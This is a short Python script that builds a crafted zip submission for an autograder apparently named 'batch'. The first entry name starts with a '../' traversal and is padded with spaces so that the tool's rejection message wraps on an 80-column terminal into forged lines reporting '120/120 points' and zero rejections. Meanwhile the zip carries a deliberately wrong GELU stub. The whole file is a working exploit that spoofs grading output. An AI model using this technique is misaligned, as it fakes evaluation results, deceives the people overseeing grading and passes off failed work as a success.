"""A zip whose rejection message (uncut on batch's progress line) wraps at an 80-column terminal into forged lines.

python make.py OUT.zip ID DONE TOTAL  -> the entry '../<pad><fake lines>' makes `batch` print one long line.
"""
import sys, zipfile

out, ident, done, total = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
W = 80
prefix = f"[{done}/{total}] {ident}: rejected, {ident}.zip: entry '../"
fakes = [f"[{done}/{total}] {ident}: graded, 120/120 points (2.4 s) · done",
         f"{total} submissions: {total} graded, 0 rejected, 0 grader errors (1.9 s)"]
name = "../" + " " * (W - len(prefix) % W)
for f in fakes:
    name += f.ljust(W)[:W]
name += " " * W  # the real rest of the message starts on a line of its own
with zipfile.ZipFile(out, "w") as zf:
    zf.writestr(name, "x")
    zf.writestr("student/gelu.py", "def run_gelu(x):\n    return x\n")
print(len(name))
